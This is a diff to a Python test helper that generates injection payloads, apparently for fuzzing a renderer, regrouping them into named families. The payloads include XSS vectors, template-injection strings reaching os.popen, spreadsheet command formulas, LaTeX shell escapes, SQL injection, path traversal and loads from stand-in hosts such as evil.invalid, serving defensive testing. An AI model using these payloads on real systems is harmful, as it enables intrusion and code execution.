@@ -71,106 +71,134 @@ ELEMENTS: Final = (
     *("a href=# autofocus", "svg><animate attributeName=x dur=1s", "svg><set attributeName=x"),
 )
 CALLS: Final = ("trap()", "trap`1`", "top['tr'+'ap']()", "eval('trap()')", "alert(1)")
-WHOLE: Final = (
-    "<script>trap()</script>",
-    "<ScRiPt>trap()</sCrIpT>",
-    "<script/x>trap()</script/x>",
-    "<script\n>trap()</script\n>",
-    f"<script src={OUT}></script>",
-    "<script src=//evil.invalid/x async></script>",
-    "<script type=module>trap()</script>",
-    "<svg><script>trap()</script></svg>",
-    "<svg><script href=data:text/javascript,trap()></script></svg>",
-    "<math><mtext><script>trap()</script></mtext></math>",
-    "<noscript><p title='</noscript><img src=x onerror=trap()>'>",
-    "<svg></p><style><a id='</style><img src=1 onerror=trap()>'>",
-    "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=trap()&gt;'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=trap()>",
-    f"<iframe src={OUT}></iframe>",
-    "<iframe srcdoc='<script>parent.trap()</script>'></iframe>",
-    "<iframe src=javascript:parent.trap()></iframe>",
-    "<object data='data:text/html,<script>trap()</script>'></object>",
-    f"<embed src={OUT}>",
-    f"<link rel=stylesheet href={OUT}>",
-    f"<link rel=prefetch href={OUT}>",
-    f"<style>@import '{OUT}';</style>",
-    f"<style>*{{background:url({OUT})}}</style>",
-    f"<p style=\"background:url('{OUT}')\">",
-    f"<base href={OUT}>",
-    f"<meta http-equiv=refresh content='0;url={OUT}'>",
-    "<meta http-equiv=refresh content='0;url=javascript:trap()'>",
-    f"<form action={OUT}><button>go</button></form>",
-    f"<img src={OUT}>",
-    f"<img srcset='{OUT} 1x'>",
-    f"<video poster={OUT}></video>",
-    f"<body background={OUT}>",
-    "<a href=javascript:trap()>x</a>",
-    "<a href='java\tscript:trap()'>x</a>",
-    "<a href=&#106;avascript:trap()>x</a>",
-    "<a href='data:text/html,<script>trap()</script>'>x</a>",
-    "<svg><a xlink:href=javascript:trap()><text y=20>x</text></a></svg>",
-    f"<svg><use href='{OUT}#x'/></svg>",
-    f"<svg><image href={OUT}></svg>",
-    "<x id=page><x id=config name=config><form name=body><input name=children>",
-    "<img name=getElementById><a id=location href=javascript:trap()>",
-    "<template shadowrootmode=open><script>trap()</script></template>",
-    "<plaintext>",
-    "<xmp><p title='</xmp><img src=x onerror=trap()>'>",
-    "<listing>&lt;img src=x onerror=trap()&gt;</listing>",
-    "<textarea autofocus onfocus=trap()>",
-    "<isindex type=image src=1 onerror=trap()>",
-    "<?xml-stylesheet href=javascript:trap()?>",
-    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
-    "&lt;script&gt;trap()&lt;/script&gt;",
-    "&amp;lt;script&amp;gt;trap()&amp;lt;/script&amp;gt;",
-    "&#60;script&#62;trap()&#60;/script&#62;",
-    "&#x3c;script>trap()&#x3c;/script>",
-    "%3Cscript%3Etrap()%3C/script%3E",
-    "\\x3cscript\\x3etrap()\\x3c/script\\x3e",
-    "\\u003cscript\\u003etrap()\\u003c/script\\u003e",
-    "+ADw-script+AD4-trap()+ADw-/script+AD4-",
-    "＜script＞trap()＜/script＞",
-    "‹script›trap()‹/script›",
-    "ʺ onmouseover=trap() x=ʺ",
-    "<ſcript>trap()</ſcript>",
-    "<ıframe src=x onload=trap()>",
-    "<img src=x onerror\u00a0=trap()>",
-    "{{ page.__class__.__mro__ }}",
-    "{{ ''.__class__.__base__.__subclasses__() }}",
-    "{% include '/etc/passwd' %}",
-    "{{ cycler.__init__.__globals__.os.popen('touch pwned') }}",
-    "${7*7}#{7*7}<%= 7*7 %>",
-    "{{constructor.constructor('trap()')()}}",
-    '=HYPERLINK("https://evil.invalid/x")',
-    "=cmd|' /C calc'!A0",
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\\input{/etc/passwd}",
-    "\\write18{touch pwned}",
-    "} , note = {",
-    "END:VEVENT BEGIN:VALARM",
-    "a;b,c:d\\n\\N",
-    "'; DROP TABLE events; --",
-    "$(touch pwned)`touch pwned`",
-    "../../../../etc/passwd",
-    "..\\..\\windows\\win.ini",
-    "file:///etc/passwd",
-    "con.txt",
-    "__proto__",
-    "constructor",
-    "toString",
-    "[click](javascript:trap())",
-    "![x](https://evil.invalid/x)",
-    "[@bridge](javascript:trap())",
-    "<https://evil.invalid/x>",
-    "раураl аррlе",  # Cyrillic letters that look like Latin ones
-    "مرحبا <b>שלום</b> abc",
-    "á́́́́́́́́́́́́́́́́́́́",
-    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
-    "ﷺ" * 20,
-    "W" * 150,
-)
+WHOLE: Final = {
+    "scripts": (
+        "<script>trap()</script>",
+        "<ScRiPt>trap()</sCrIpT>",
+        "<script/x>trap()</script/x>",
+        "<script\n>trap()</script\n>",
+        f"<script src={OUT}></script>",
+        "<script src=//evil.invalid/x async></script>",
+        "<script type=module>trap()</script>",
+        "<svg><script>trap()</script></svg>",
+        "<svg><script href=data:text/javascript,trap()></script></svg>",
+        "<math><mtext><script>trap()</script></mtext></math>",
+        "<noscript><p title='</noscript><img src=x onerror=trap()>'>",
+        "<svg></p><style><a id='</style><img src=1 onerror=trap()>'>",
+        "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=trap()&gt;'>",
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=trap()>",
+    ),
+    "frames": (
+        f"<iframe src={OUT}></iframe>",
+        "<iframe srcdoc='<script>parent.trap()</script>'></iframe>",
+        "<iframe src=javascript:parent.trap()></iframe>",
+        "<object data='data:text/html,<script>trap()</script>'></object>",
+        f"<embed src={OUT}>",
+    ),
+    "loads": (
+        f"<link rel=stylesheet href={OUT}>",
+        f"<link rel=prefetch href={OUT}>",
+        f"<style>@import '{OUT}';</style>",
+        f"<style>*{{background:url({OUT})}}</style>",
+        f"<p style=\"background:url('{OUT}')\">",
+        f"<base href={OUT}>",
+        f"<meta http-equiv=refresh content='0;url={OUT}'>",
+        "<meta http-equiv=refresh content='0;url=javascript:trap()'>",
+        f"<form action={OUT}><button>go</button></form>",
+        f"<img src={OUT}>",
+        f"<img srcset='{OUT} 1x'>",
+        f"<video poster={OUT}></video>",
+        f"<body background={OUT}>",
+    ),
+    "links": (
+        "<a href=javascript:trap()>x</a>",
+        "<a href='java\tscript:trap()'>x</a>",
+        "<a href=&#106;avascript:trap()>x</a>",
+        "<a href='data:text/html,<script>trap()</script>'>x</a>",
+        "<svg><a xlink:href=javascript:trap()><text y=20>x</text></a></svg>",
+        f"<svg><use href='{OUT}#x'/></svg>",
+        f"<svg><image href={OUT}></svg>",
+    ),
+    "names of the page": (
+        "<x id=page><x id=config name=config><form name=body><input name=children>",
+        "<img name=getElementById><a id=location href=javascript:trap()>",
+        "<template shadowrootmode=open><script>trap()</script></template>",
+    ),
+    "raw text": (
+        "<plaintext>",
+        "<xmp><p title='</xmp><img src=x onerror=trap()>'>",
+        "<listing>&lt;img src=x onerror=trap()&gt;</listing>",
+        "<textarea autofocus onfocus=trap()>",
+        "<isindex type=image src=1 onerror=trap()>",
+        "<?xml-stylesheet href=javascript:trap()?>",
+        "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
+    ),
+    "encodings": (
+        "&lt;script&gt;trap()&lt;/script&gt;",
+        "&amp;lt;script&amp;gt;trap()&amp;lt;/script&amp;gt;",
+        "&#60;script&#62;trap()&#60;/script&#62;",
+        "&#x3c;script>trap()&#x3c;/script>",
+        "%3Cscript%3Etrap()%3C/script%3E",
+        "\\x3cscript\\x3etrap()\\x3c/script\\x3e",
+        "\\u003cscript\\u003etrap()\\u003c/script\\u003e",
+        "+ADw-script+AD4-trap()+ADw-/script+AD4-",
+        "＜script＞trap()＜/script＞",
+        "‹script›trap()‹/script›",
+        "ʺ onmouseover=trap() x=ʺ",
+        "<ſcript>trap()</ſcript>",
+        "<ıframe src=x onload=trap()>",
+        "<img src=x onerror\u00a0=trap()>",
+    ),
+    "templates": (
+        "{{ page.__class__.__mro__ }}",
+        "{{ ''.__class__.__base__.__subclasses__() }}",
+        "{% include '/etc/passwd' %}",
+        "{{ cycler.__init__.__globals__.os.popen('touch pwned') }}",
+        "${7*7}#{7*7}<%= 7*7 %>",
+        "{{constructor.constructor('trap()')()}}",
+    ),
+    "formulas": (
+        '=HYPERLINK("https://evil.invalid/x")',
+        "=cmd|' /C calc'!A0",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ),
+    "bibliographies and calendars": (
+        "\\input{/etc/passwd}",
+        "\\write18{touch pwned}",
+        "} , note = {",
+        "END:VEVENT BEGIN:VALARM",
+        "a;b,c:d\\n\\N",
+    ),
+    "shells and paths": (
+        "'; DROP TABLE events; --",
+        "$(touch pwned)`touch pwned`",
+        "../../../../etc/passwd",
+        "..\\..\\windows\\win.ini",
+        "file:///etc/passwd",
+        "con.txt",
+    ),
+    "names of objects": (
+        "__proto__",
+        "constructor",
+        "toString",
+    ),
+    "Markdown": (
+        "[click](javascript:trap())",
+        "![x](https://evil.invalid/x)",
+        "[@bridge](javascript:trap())",
+        "<https://evil.invalid/x>",
+    ),
+    "writing": (
+        "раураl аррlе",  # Cyrillic letters that look like Latin ones
+        "مرحبا <b>שלום</b> abc",
+        "á́́́́́́́́́́́́́́́́́́́",
+        "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
+        "ﷺ" * 20,
+        "W" * 150,
+    ),
+}
 
 
 def events_of_elements() -> Iterator[str]:
@@ -190,7 +218,7 @@ def attributes() -> Iterator[str]:
 
 def wholes() -> Iterator[str]:
     """Yield each whole payload after each thing that ends a place."""
-    for end, whole in itertools.product(BREAKS, WHOLE):
+    for end, whole in itertools.product(BREAKS, itertools.chain(*WHOLE.values())):
         yield end + whole
 
 
@@ -256,6 +284,17 @@ def texts() -> tuple[str, ...]:
     """Return every payload that is one line of characters that a text may hold."""
     made = dict.fromkeys([*events_of_elements(), *attributes(), *wholes(), *disguises()])
     return tuple(text for text in made if text.isprintable() and text.strip() == text and text)
+
+
+def families() -> dict[str, tuple[str, ...]]:
+    """Return the payloads that texts() has, by what they try."""
+    kinds = {
+        name: [end + whole for end in BREAKS for whole in some] for name, some in WHOLE.items()
+    }
+    kinds |= {"elements": [*events_of_elements()], "attributes": [*attributes()]}
+    kinds["addresses"] = [*disguises()]
+    kept = set(texts())
+    return {name: tuple(text for text in some if text in kept) for name, some in kinds.items()}
 
 
 # What nobody sees, or what turns the reading direction.
